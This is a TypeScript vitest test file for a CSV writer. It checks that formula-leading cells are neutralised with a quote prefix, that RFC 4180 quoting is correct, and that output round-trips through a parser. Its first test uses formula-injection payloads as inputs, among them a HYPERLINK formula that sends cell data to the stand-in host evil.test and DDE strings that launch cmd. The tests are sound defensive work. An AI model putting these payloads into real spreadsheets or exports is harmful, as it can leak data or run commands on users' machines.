import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvRecord, csvRecords } from './csv.js'

describe('csv writer', () => {
  it('neutralises every formula-leading character with a single quote', () => {
    expect(csvCell('=HYPERLINK("https://evil.test/?"&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.test/?""&A1,""Click"")"`,
    )
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0")
    expect(csvCell('+1+1')).toBe("'+1+1")
    expect(csvCell('@SUM(1+1)*cmd|"/C calc"!A0')).toBe(`"'@SUM(1+1)*cmd|""/C calc""!A0"`)
    expect(csvCell('\t=1+1')).toBe("'\t=1+1")
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`)
    expect(csvCell('＝1+1')).toBe("'＝1+1")
    // Only the first character matters; numbers are never formulas.
    expect(csvCell('a=1')).toBe('a=1')
    expect(csvCell(-12.5)).toBe('-12.5')
    expect(csvCell(0)).toBe('0')
  })

  it('quotes per RFC 4180 and writes empty fields for null', () => {
    expect(csvCell('plain')).toBe('plain')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell('')).toBe('')
    expect(csvRecord(['a', 1, null, 'b,c'])).toBe('a,1,,"b,c"\r\n')
    expect(csvRecords([['x'], ['y', 'z']])).toBe('x\r\ny,z\r\n')
  })

  it('reads back as the same text through a standard parser, formulas prefixed', () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc.constantFrom('=1', '-', '@', '"', '\r\n'),
    )
    fc.assert(
      fc.property(
        fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const back = parse(csvRecords(rows), { relax_column_count: true }) as string[][]
          const expected = rows.map((row) => row.map((v) => (/^[=+\-@\t\r＝＋－＠]/.test(v) ? `'${v}` : v)))
          expect(back).toEqual(expected)
        },
      ),
      { numRuns: 500 },
    )
  })
})
